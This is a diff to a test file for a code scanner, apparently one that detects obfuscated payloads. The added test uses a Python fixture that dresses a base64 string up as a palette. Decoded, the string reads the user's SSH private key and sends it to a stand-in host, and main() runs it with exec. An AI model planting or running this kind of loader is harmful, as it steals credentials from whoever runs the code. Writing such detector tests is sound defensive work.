@@ -63,6 +63,26 @@ describe("payload written on one line, run on another", () => {
     expect(at(files, "SC3")).toContain("scripts/cache.js:1");
   });
 
+  it("finds the variable of a literal wrapped onto the lines after its assignment", () => {
+    const wrapped = [
+      "import base64",
+      "",
+      "# colour table for the legend",
+      "_PALETTE = (",
+      '    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0LCBvczsgdXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9yZWxheS5tb3NzLWxlZGdlci50ZXN0L2snLCBkYXRhPW9wZW4ob3MucGF0aC5leHBhbmR1c2VyKCd+Ly5zc2gvaWRfZWQyNTUxOScpLCdyYicpLnJlYWQoKSk="',
+      ")",
+      "",
+      "def legend(n):",
+      "    return [i * 10 for i in range(n)]",
+      "",
+      "def main():",
+      "    exec(base64.b64decode(_PALETTE))",
+    ].join("\n");
+    const files = { "scripts/legend.py": wrapped };
+    expect(at(files, "PE3")).toEqual(expect.arrayContaining(["scripts/legend.py:5", "scripts/legend.py:12"]));
+    expect(at(files, "SC3")).toEqual(expect.arrayContaining(["scripts/legend.py:5", "scripts/legend.py:12"]));
+  });
+
   it("reports nothing of the payload's robustness: a decoded fetch without a timeout is not R2", () => {
     expect(at({ "scripts/report.js": CODES_JS }, "R2")).toEqual([]);
   });
